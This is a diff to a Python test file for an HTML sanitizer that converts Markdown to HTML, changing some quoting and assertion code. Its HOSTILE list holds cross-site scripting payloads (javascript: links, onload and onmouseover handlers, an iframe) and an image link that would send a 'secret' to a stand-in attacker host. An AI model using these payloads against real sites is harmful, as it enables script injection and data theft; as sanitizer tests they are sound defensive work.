@@ -25,7 +25,7 @@ HOSTILE = [
     "![x](https://evil.example/?q=secret)",
     "[![x](https://evil.example/a.png)](https://ok.example)",
     '[x](https://ok.example "onmouseover=alert(1)")',
-    "<https://ok.example/\"onmouseover=alert(1)>",
+    '<https://ok.example/"onmouseover=alert(1)>',
     "**_[`<svg/onload=alert(1)>`](javascript:alert(1))_**",
     "> - 1. [x](javascript:alert(1))\n>   <iframe src=//evil.example>",
     "[1]: javascript:alert(1)\n\n[1]",
@@ -37,7 +37,7 @@ HOSTILE = [
 
 
 def assert_harmless(html: str) -> None:
-    for tag in BeautifulSoup(html, "lxml").find_all(True):
+    for tag in BeautifulSoup(html, "lxml").select("*"):
         if tag.name in ("html", "body"):
             continue
         assert tag.name in TAGS
@@ -72,8 +72,8 @@ def test_entities_do_not_bring_the_invisible_back() -> None:
 @pytest.mark.parametrize("author", MARKDOWN_AUTHORS)
 def test_markdown_becomes_html(author: Author) -> None:
     html = to_html("# Titre\n\n**gras** *fin*\nligne\n\n1. un\n2. deux\n\n> dit\n\n|a|b|\n|-|-|\n|1|2|", author)
-    for expected in ("<p><strong>Titre</strong></p>", "<strong>gras</strong>", "<em>fin</em><br>", "<ol>", "<li>un</li>",
-                     "<blockquote>", "<td>1</td>"):  # fmt: skip
+    blocks = ("<p><strong>Titre</strong></p>", "<ol>", "<li>un</li>", "<blockquote>", "<td>1</td>")
+    for expected in ("<strong>gras</strong>", "<em>fin</em><br>", *blocks):
         assert expected in html
 
 
